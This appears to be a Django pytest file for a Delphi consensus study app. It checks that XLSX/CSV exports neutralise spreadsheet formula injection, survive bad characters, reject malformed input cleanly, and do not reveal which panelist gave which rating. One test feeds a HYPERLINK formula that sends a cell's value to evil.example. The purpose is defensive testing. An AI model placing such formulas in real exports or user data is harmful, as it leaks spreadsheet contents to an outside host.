"""Exports and results that could tie a rating to a name (open rounds, row order), spreadsheet
formula injection, and bad input that must be a clear error rather than a server error."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from consensus import selectors
from consensus.models import Rating
from consensus.services.ratings import Answer, ballot_submit, rating_save
from consensus.services.rounds import round_close, round_open
from tests.factories.consensus import committee_member, study_with_panel

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@")


def _client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _study_rated_with_comment(comment: str):
    study = study_with_panel(n_items=1, n_panelists=5)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    for panelist in study.panelists.order_by("pk"):
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(8, comment)})
    round_close(user=study.created_by, delphi_round=first)
    return study


def test_xlsx_export_turns_a_panelist_comment_into_a_live_formula():
    """A panelist's comment "=HYPERLINK(...)" is written by openpyxl as a formula: the
    facilitator who opens the XLSX export runs a formula chosen by a panelist (formula
    injection). Comments must be stored as text cells."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    study = _study_rated_with_comment(payload)
    response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
    sheet = load_workbook(io.BytesIO(response.content))[_("Comments")]
    comments = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert comments, "the export has rating rows"
    for cell in comments:
        assert cell.data_type != "f", "a panelist's comment became a spreadsheet formula"


def test_csv_export_cells_starting_with_formula_characters_are_neutralised():
    """The CSV export writes a comment such as "=1+2" or "@SUM(A1)" as is: spreadsheet
    software evaluates it as a formula when the facilitator opens the file (CSV injection)."""
    study = _study_rated_with_comment("=1+2")
    response = _client(committee_member()).get(
        reverse("consensus:export-comments-csv", args=[study.pk])
    )
    rows = _csv_rows(response)[1:]
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"formula-like cell exported as is: {cell!r}"


def test_xlsx_export_survives_a_control_character_in_a_comment():
    """A comment pasted with a control character (vertical tab, e.g. from a word processor) is
    stored, then makes openpyxl raise IllegalCharacterError: the XLSX export is a 500 for the
    whole study, for everyone, for good."""
    study = _study_rated_with_comment("ligne 1\x0bligne 2")
    response = _client(committee_member()).get(reverse("consensus:export-xlsx", args=[study.pk]))
    assert response.status_code == 200


def test_ballot_with_a_malformed_score_is_a_400_not_a_500():
    """A posted score such as "--5" (or "²") is rejected by the parser, but re-displaying the
    form then calls int() on it again and crashes: the panelist gets a server error instead
    of the form with the message and what they typed."""
    study = study_with_panel(n_items=1, n_panelists=1)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    client = _client(study.panelists.get().user)
    url = reverse("consensus:ballot", args=[delphi_round.pk])
    for raw in ("--5", "²"):
        response = client.post(
            url, {f"score-{item.pk}": raw, f"comment-{item.pk}": "gardé", "save": ""}
        )
        assert response.status_code == 400, raw
        assert "gardé" in response.content.decode()
    assert not Rating.objects.exists()


def test_ballot_comment_with_a_nul_character_is_a_400_not_a_500():
    """A NUL character in a comment reaches PostgreSQL, which refuses it: the panelist gets a
    server error (and loses the ballot typed) instead of a message."""
    study = study_with_panel(n_items=1, n_panelists=1)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    client = _client(study.panelists.get().user)
    url = reverse("consensus:ballot", args=[delphi_round.pk])
    response = client.post(
        url, {f"score-{item.pk}": "7", f"comment-{item.pk}": "a\x00b", "save": ""}
    )
    assert response.status_code in (302, 400)


def test_export_during_an_open_round_links_a_pseudonym_to_a_named_panelist():
    """While a round is open the dashboard names who has not submitted yet (intended, for
    reminders), and the exports already contain that round's ratings under the stable
    pseudonym. After the first ballot, the only pseudonym in the round is the one panelist
    missing from the pending list: the facilitator learns who that pseudonym is, and so every
    rating and comment that panelist gives in every round."""
    study = study_with_panel(n_items=1, n_panelists=3)
    facilitator = study.created_by
    delphi_round = round_open(user=facilitator, study=study)
    item = delphi_round.round_items.get()
    alice = study.panelists.order_by("pk").first()
    ballot_submit(
        user=alice.user, delphi_round=delphi_round, answers={item.pk: Answer(2, "franchise")}
    )
    client = _client(facilitator)
    dashboard = client.get(reverse("consensus:study-detail", args=[study.pk])).content.decode()
    alice_name = alice.user.get_full_name() or alice.user.get_username()
    assert alice_name not in dashboard  # she is the one who submitted
    rows = _csv_rows(client.get(reverse("consensus:export-csv", args=[study.pk])))[1:]
    assert rows == [], f"open-round ratings exported under a pseudonym: {rows}"


def test_results_during_an_open_round_show_the_single_ballot_of_a_named_panelist():
    """Same leak on the results page: with one ballot submitted in the open round, the results
    show n = 1 and its score, while the dashboard names everybody else as pending."""
    study = study_with_panel(n_items=1, n_panelists=3)
    delphi_round = round_open(user=study.created_by, study=study)
    item = delphi_round.round_items.get()
    alice = study.panelists.order_by("pk").first()
    ballot_submit(user=alice.user, delphi_round=delphi_round, answers={item.pk: Answer(2)})
    results = selectors.study_results(study)
    assert results.report.items == [], "statistics of a round still open are shown"


def test_the_results_page_says_the_open_round_is_left_out(client):
    study = study_with_panel(n_items=1, n_panelists=3)
    round_open(user=study.created_by, study=study)
    client.force_login(study.created_by)
    response = client.get(f"/consensus/etudes/{study.pk}/resultats/")
    assert response.status_code == 200
    assert "Le tour en cours n’est pas inclus" in response.content.decode()


def test_export_row_order_does_not_follow_panelist_invitation_order():
    """Within an item and round, export rows are sorted by Panelist.pk, i.e. by the order in
    which the facilitator invited the panel (the study form invites in last-name order): the
    n-th pseudonym of every block is the n-th invited panelist. Rows should be ordered by
    something that carries no identity, such as the pseudonym itself."""
    study = study_with_panel(n_items=1, n_panelists=6)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    for panelist in study.panelists.order_by("pk"):
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(5)})
    round_close(user=study.created_by, delphi_round=first)
    pseudonyms = [row[3] for row in selectors.ratings_export_rows(study)]
    invitation_order = [
        selectors.panelist_pseudonym(study, 1, p.pk) for p in study.panelists.order_by("pk")
    ]
    assert len(set(pseudonyms)) == 6
    # Ordered by pseudonym, the order says nothing.
    assert pseudonyms == sorted(invitation_order)


def test_decision_post_with_a_non_numeric_item_is_not_a_server_error():
    """Posting item=abc to the committee decision page raises ValueError inside
    get_object_or_404: a 500 instead of a 404."""
    study = study_with_panel(n_items=1, n_panelists=1)
    client = _client(committee_member())
    response = client.post(reverse("consensus:decisions", args=[study.pk]), {"item": "abc"})
    assert response.status_code == 404


def test_a_ballot_saved_but_never_submitted_is_left_out_everywhere():
    """The methods report counts submitted ballots: the statistics, the exports and the next
    round's feedback count the same panelists, not a partial ballot abandoned half-way."""
    study = study_with_panel(n_items=1, n_panelists=6)
    first = round_open(user=study.created_by, study=study)
    item = first.round_items.get()
    *done, halfway = study.panelists.order_by("pk")
    for panelist in done:
        ballot_submit(user=panelist.user, delphi_round=first, answers={item.pk: Answer(8)})
    rating_save(user=halfway.user, round_item=item, score=1, comment="à revoir")
    round_close(user=study.created_by, delphi_round=first)

    [row] = selectors.study_results(study).report.items
    assert (row.stats.n, row.stats.median) == (5, 8)
    assert [r[4] for r in selectors.ratings_export_rows(study)] == [8] * 5
    assert selectors.comments_export_rows(study) == []
    second = round_open(user=study.created_by, study=study)
    _ballot, lines = selectors.ballot_for_panelist(done[0], second)
    feedback = lines[0].feedback
    assert (feedback.n, feedback.comments) == (5, [])
